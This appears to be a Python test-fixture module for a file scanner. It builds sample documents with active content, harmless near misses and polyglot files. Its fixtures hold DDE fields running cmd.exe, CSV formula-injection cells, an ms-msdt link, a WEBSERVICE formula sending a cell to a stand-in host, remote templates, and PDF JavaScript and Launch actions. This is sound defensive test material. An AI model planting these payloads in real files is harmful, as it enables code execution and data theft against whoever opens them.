"""Files that do something when they are opened, and their near misses that only show what they say."""

from __future__ import annotations

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests import made_files as made
from tests.conftest import ON_DISK

_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str, *, outside: bool = True) -> str:
    """The relationships of a text that has one more."""
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationships><Relationship Id="r9" Type="{_TYPE}/{kind}" Target="{target}"{mode}/></Relationships>'


def text(kind: str, target: str, *, outside: bool = True, part: str = "document") -> tuple[str, bytes]:
    """A text of Word with a relationship."""
    return "docx", made.docx(more={f"word/_rels/{part}.xml.rels": related(kind, target, outside=outside)})


def field(*pieces: str) -> tuple[str, bytes]:
    """A text of Word with a field, whose code is written in pieces."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    code = f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>'
    return "docx", made.docx(more={"word/header1.xml": f"<w:hdr><w:p>{code}</w:p></w:hdr>"})


def formula(told: str, name: str = "xl/worksheets/sheet2.xml", form: str = "<c><f>{}</f></c>") -> tuple[str, bytes]:
    """A workbook with a formula."""
    return "xlsx", made.packed({**made.unpacked(made.xlsx([["Thôn", "Số"]])), name: form.format(told)})


def open_text(inside: str, kind: str = "odt") -> tuple[str, bytes]:
    """An OpenDocument file with something in its text."""
    mime = "application/vnd.oasis.opendocument." + {"odt": "text", "ods": "spreadsheet"}[kind]
    return kind, made.packed(
        {"mimetype": mime, "content.xml": f"<office:document-content>{inside}<text:p>Tin</text:p>"}
    )


def paper(where: str, kind: str, **more: str) -> tuple[str, bytes]:
    """A PDF file with an action: of its opening, of its page, of a note on it, or behind another one."""
    writer = PdfWriter(clone_from=PdfReader(made.as_file(made.pdf("Thong bao"))))
    act = DictionaryObject({NameObject("/S"): NameObject(kind)})
    act.update({NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()})
    match where:
        case "open":
            writer.root_object[NameObject("/OpenAction")] = act
        case "page":
            writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): act})
        case "next":
            first = DictionaryObject({NameObject("/S"): NameObject("/GoTo"), NameObject("/Next"): ArrayObject([act])})
            writer.root_object[NameObject("/OpenAction")] = writer._add_object(first)
        case _:
            box = ArrayObject(map(NumberObject, (0, 0, 9, 9)))
            note = {NameObject("/Subtype"): NameObject("/Link"), NameObject("/Rect"): box, NameObject("/A"): act}
            writer.pages[0][NameObject("/Annots")] = ArrayObject([DictionaryObject(note)])
    return "pdf", made.written(writer)


def ring(ways: int = 400) -> tuple[str, bytes]:
    """A PDF file with an action that is followed by itself, in many ways."""
    writer = PdfWriter(clone_from=PdfReader(made.as_file(made.pdf("Thong bao"))))
    act = DictionaryObject({NameObject("/S"): NameObject("/GoTo")})
    place = writer._add_object(act)
    act[NameObject("/Next")] = ArrayObject([place] * ways)
    writer.root_object[NameObject("/OpenAction")] = place
    return "pdf", made.written(writer)


def hidden_name(kind: str, data: bytes) -> tuple[str, bytes]:
    """The same with the name of the action spelt in numbers."""
    assert data.count(b"/JavaScript") == 1
    return kind, data.replace(b"/JavaScript", b"/J#61vaScript")


PAPER = made.pdf("Thong bao")
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
ACTING: dict[str, tuple[str, bytes]] = {
    "a template from elsewhere": text("attachedTemplate", "https://xau.example/a.dotm", part="settings"),
    "a template in a part whose name has capitals": (
        "docx",
        made.docx(more={"word/_rels/settings.xml.RELS": related("attachedTemplate", "https://xau.example/a.dotm")}),
    ),
    "a template behind a sign that ends no tag": (
        "docx",
        made.docx(more={"a.rels": related("attachedTemplate", "https://xau.example/a.dotm").replace("r9", "a>b")}),
    ),
    "a field of another prefix, in the glossary": (
        "docx",
        made.docx(more={"word/glossary/document.xml": '<x:fldSimple x:instr=" ddeauto excel "/>'}),
    ),
    "a formula of another prefix": formula("WEBSERVICE(A1)", form="<x:c><x:f t='a>b'>{}</x:f></x:c>"),
    "a template of somebody's machine": text("attachedTemplate", f"{ON_DISK}/C:/hoa/Normal.dotm", part="settings"),
    "a picture from elsewhere": text("image", "https://xau.example/dem.png"),
    "an object from elsewhere": text("oleObject", "mhtml:https://xau.example/x!x-usc:https://xau.example"),
    "a frame": text("frame", "https://xau.example/khung.html"),
    "a part of HTML that is put in": text("aFChunk", "afchunk.mht", outside=False),
    "a link to a program": text("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "a link to a share": text("hyperlink", "\\\\xau.example\\tep"),
    "a link with a script": text("hyperlink", "JavaScript:alert(1)"),
    "a field that calls": field("DDEAUTO ", 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "a field that calls, in pieces": field("DD", "EAU", "TO excel"),
    "a field that fetches a picture": field('INCLUDEPICTURE "https://xau.example/a.png"'),
    "a formula that fetches": formula("WEBSERVICE(&quot;https://xau.example/?q=&quot;&amp;A1)"),
    "a formula that calls": formula("cmd|&apos;/C calc&apos;!A0"),
    "a formula that leads to a program": formula(f"HYPERLINK(&quot;{ON_DISK}/c:/a.exe&quot;,&quot;Xem&quot;)"),
    "a name that starts by itself": formula("Auto_Open", "xl/workbook.xml", "<definedName name='x'>{}</definedName>"),
    "data from elsewhere": ("xlsx", made.packed({**made.unpacked(made.xlsx([["a"]])), "xl/connections.xml": "<x/>"})),
    "a section of another file": open_text('<text:section-source xlink:href="https://xau.example/a.odt"/>'),
    "a picture from elsewhere, OpenDocument": open_text('<draw:image xlink:href="//xau.example/a.png"/>'),
    "a script, OpenDocument": open_text("<office:script script:language='ooo:Basic'>x</office:script>"),
    "a formula, OpenDocument": open_text('<table:table-cell table:formula="of:=WEBSERVICE(&quot;x&quot;)"/>', "ods"),
    "data by DDE, OpenDocument": open_text('<office:dde-source office:dde-application="soffice"/>', "ods"),
    "a link to a program, OpenDocument": open_text('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'),
    "a script at the opening": paper("open", "/JavaScript", JS="app.alert(1)"),
    "a script behind another action": paper("next", "/JavaScript", JS="app.alert(1)"),
    "a script with a hidden name": hidden_name(*paper("open", "/JavaScript", JS="app.alert(1)")),
    "a program at the opening": paper("open", "/Launch", F="calc.exe"),
    "something when a page is shown": paper("page", "/URI", URI="https://xau.example"),
    "a button that sends": paper("note", "/SubmitForm", F="https://xau.example"),
    "a link to a file": paper("note", "/GoToR", F="khac.pdf"),
    "a link to a program, PDF": paper("note", "/URI", URI="search-ms:query=x"),
    "a cell that is a formula": ("csv", "thôn,số\nNhất,=1+1\n".encode()),
    "a cell that calls": ("csv", "thôn;số\nNhất;\"-2+3+cmd|' /C calc'!A0\"\n".encode()),
    "a cell that begins with @": ("csv", "thôn\tsố\nNhất\t@SUM(1)\n".encode()),
    "a cell in full width": ("csv", "thôn,số\nNhất,＝1+1\n".encode()),
}
"""What each does; all of them are told (S25), and published nowhere."""
SHOWING: dict[str, tuple[str, bytes]] = {
    "a link to a page": text("hyperlink", "https://haiphong.gov.vn/a.html"),
    "a link to a mailbox": text("hyperlink", "mailto:vanphong@xa.example"),
    "a picture of its own": text("image", "media/a.png", outside=False),
    "a list of contents": field('TOC \\o "1-3" ', "\\h"),
    "a link whose page is called so": field('HYPERLINK "https://xa.example/link/include dde"'),
    "a sum": formula("SUM(B2:B9)"),
    "a link in a sheet": formula("HYPERLINK(&quot;https://xa.example&quot;,&quot;Xem&quot;)"),
    "a word that is like one that calls": formula("RECALL(1)"),
    "a picture of its own, OpenDocument": open_text('<draw:image xlink:href="Pictures/a.png"/>'),
    "a link to a page, OpenDocument": open_text('<text:a xlink:href="https://xa.example">x</text:a><office:script/>'),
    "a link to a page, PDF": paper("note", "/URI", URI="https://xa.example"),
    "a page to begin with": paper("open", "/GoTo", D="x"),
    "numbers and dashes": ("csv", "thôn,số\n- Thôn Nhất (phía đông),-5\n+84 225 123,—\n-,a=b\n".encode()),
}
"""Near misses: nothing is told of them."""
TWO_FACED: dict[str, tuple[str, bytes]] = {
    "a paper that is a container": (
        "pdf",
        PAPER + made.packed({"a.html": "x"})[:-2] + b"\x06\0%%EOF\n",
    ),
    "a picture that is a container": ("png", made.png() + made.packed({"a.html": "x"})),
    "a photo that is a container": ("jpg", made.jpeg() + made.packed({"a.html": "x"})),
    "a paper that is a page": (
        "pdf",
        PAPER.replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<html><script>x</script>\n", 1),
    ),
    "a photo that is a page": ("jpg", made.jpeg(comment="<html><script src=x></script>")),
    "a drawing that is called a picture": ("png", SVG),
    "a page that is called a list": ("csv", b"a,b\n<script>alert(1)</script>\n"),
    "a page that is called a text": ("txt", b"<!DOCTYPE html><title>x</title>"),
    "a drawing that is called a text": ("txt", SVG),
    "a page at the head of a text of Word": ("docx", made.stored({"a.htm": "<html><body>x"}, made.docx())),
}
"""Two kinds in one, or another kind than is said: no files of their kind (S10)."""
